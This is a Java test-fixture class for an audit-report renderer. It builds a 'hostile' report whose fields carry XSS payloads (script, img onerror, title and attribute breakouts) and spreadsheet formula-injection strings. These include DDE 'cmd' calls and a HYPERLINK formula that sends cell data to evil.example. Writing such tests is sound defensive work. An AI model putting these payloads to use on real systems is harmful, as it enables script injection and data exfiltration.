package cn.zwgk.audit.report;

import cn.zwgk.audit.report.AuditReport.Finding;
import cn.zwgk.audit.report.AuditReport.TaskResult;
import cn.zwgk.audit.report.AuditReport.UnitResult;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URISyntaxException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;

/**
 * Reports the renderer tests use. {@code sample-2020} is a frozen report.json of the bundled sample
 * data (frozen so that rule edits do not move the golden files); {@code hostile} is the same report
 * with evidence-borne text an attacker would choose: markup that would set {@code document.title}
 * if it ran, an attribute breakout, and spreadsheet formulas, in explanations, units, findings,
 * waivers, rectifications and records the tables could not count.
 */
final class Fixtures {
    static final String SAMPLE = "sample-2020";
    static final String HOSTILE = "hostile";

    static final String SCRIPT = "<script>document.title='PWNED-script';alert(1)</script>";
    static final String IMG = "<img src=x onerror=\"document.title='PWNED-img';alert(1)\">";
    static final String TITLE_BREAKOUT = "</title><script>document.title='PWNED-title'</script>";
    static final String ATTRIBUTE_BREAKOUT =
            "\" autofocus onfocus=\"document.title='PWNED-attr'\" x=\"";
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")";

    /** Text a spreadsheet would take for a formula, one per dangerous first character. */
    static final List<String> FORMULAS =
            List.of(
                    HYPERLINK,
                    "+cmd|' /C calc'!A0",
                    "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "\t=1+1",
                    "\r=1+1");

    /**
     * Every hostile text the hostile report carries, each of which must survive as visible text.
     */
    static final List<String> PAYLOADS =
            List.of(SCRIPT, IMG, TITLE_BREAKOUT, ATTRIBUTE_BREAKOUT, HYPERLINK);

    /** The unit renamed to carry {@link #ATTRIBUTE_BREAKOUT}, so it lands in HTML attributes. */
    static final String RENAMED_UNIT = "人才开发科";

    private Fixtures() {}

    static Map<String, AuditReport> all() {
        Map<String, AuditReport> all = new LinkedHashMap<>();
        all.put(SAMPLE, sample());
        all.put(HOSTILE, hostile());
        return all;
    }

    static AuditReport sample() {
        try {
            return ReportReader.read(
                    Path.of(Fixtures.class.getResource("fixtures/" + SAMPLE + ".json").toURI()));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }

    static AuditReport hostile() {
        AuditReport r = sample();
        String unit = RENAMED_UNIT + ATTRIBUTE_BREAKOUT;
        UnaryOperator<String> rename = u -> RENAMED_UNIT.equals(u) ? unit : u;
        List<TaskResult> tasks = new ArrayList<>();
        for (TaskResult t : r.tasks()) {
            String explanation = t.explanation();
            List<String> ids = t.evidenceIds();
            List<UnitResult> units = new ArrayList<>();
            for (int i = 0; i < t.units().size(); i++) {
                UnitResult u = t.units().get(i);
                String unitExplanation = u.explanation();
                List<String> unitIds = u.evidenceIds();
                if (i == 0 && t.number() <= FORMULAS.size()) {
                    unitExplanation = FORMULAS.get(t.number() - 1);
                    unitIds = prepend(HYPERLINK, unitIds);
                } else if (i == 0 && t.number() == FORMULAS.size() + 1) {
                    unitExplanation = SCRIPT + unitExplanation;
                } else if (i == 0 && t.number() == FORMULAS.size() + 2) {
                    unitExplanation = IMG + "\n" + unitExplanation;
                }
                units.add(
                        new UnitResult(
                                rename.apply(u.unit()),
                                u.state(),
                                unitExplanation,
                                unitIds,
                                u.late()));
            }
            switch (t.number()) {
                case 1 -> explanation = SCRIPT + ATTRIBUTE_BREAKOUT + explanation;
                case 2 -> explanation = IMG + "\n" + explanation;
                case 3 -> {
                    explanation = HYPERLINK + explanation;
                    ids = prepend(HYPERLINK, ids);
                }
                default -> {}
            }
            List<Finding> findings =
                    t.findings().stream()
                            .map(
                                    f ->
                                            new Finding(
                                                    f.rule(),
                                                    f.unit() == null
                                                            ? null
                                                            : rename.apply(f.unit()),
                                                    f.outcome(),
                                                    f.message() + IMG,
                                                    prepend(SCRIPT, f.evidenceIds())))
                            .toList();
            List<AuditReport.RectificationResult> rectifications =
                    t.rectifications().stream()
                            .map(
                                    c ->
                                            new AuditReport.RectificationResult(
                                                    c.id(),
                                                    c.unit() == null
                                                            ? null
                                                            : rename.apply(c.unit()),
                                                    SCRIPT + c.problem(),
                                                    HYPERLINK + c.measure(),
                                                    IMG + c.responsibleUnit(),
                                                    c.targetDate()))
                            .toList();
            tasks.add(
                    new TaskResult(
                            t.number(),
                            t.content(),
                            t.leadUnits(),
                            t.responsibleUnits(),
                            t.deadlineText(),
                            t.dueDate(),
                            t.deadline(),
                            t.state(),
                            explanation,
                            ids,
                            units,
                            findings,
                            t.late(),
                            rectifications));
        }
        return new AuditReport(
                r.schema(),
                r.tool(),
                r.organisation() + TITLE_BREAKOUT,
                r.auditYear(),
                r.asOf(),
                r.catalogTitle() + IMG,
                r.units().stream().map(rename).toList(),
                r.summary(),
                tasks,
                r.manifest(),
                List.of(
                        new AuditReport.WaiverResult(
                                SCRIPT,
                                24,
                                unit,
                                r.asOf(),
                                r.asOf(),
                                List.of(),
                                SCRIPT,
                                IMG,
                                FORMULAS.get(1),
                                FORMULAS.get(0),
                                r.asOf())),
                withUnplaced(r.statistics(), new AuditReport.UnplacedRecord(SCRIPT, IMG)));
    }

    /**
     * The tables with an application record they could not count: its id and reason are
     * evidence-borne.
     */
    private static AuditReport.AnnualTables withUnplaced(
            AuditReport.AnnualTables t, AuditReport.UnplacedRecord record) {
        return new AuditReport.AnnualTables(
                t.reportYear(),
                t.layout(),
                t.basis(),
                t.proactive(),
                t.applications(),
                List.of(record),
                t.reviews(),
                t.overview());
    }

    /** {@code first}, then {@code rest}: evidence ids with one chosen id in front. */
    static List<String> prepend(String first, List<String> rest) {
        List<String> all = new ArrayList<>();
        all.add(first);
        all.addAll(rest);
        return all;
    }
}
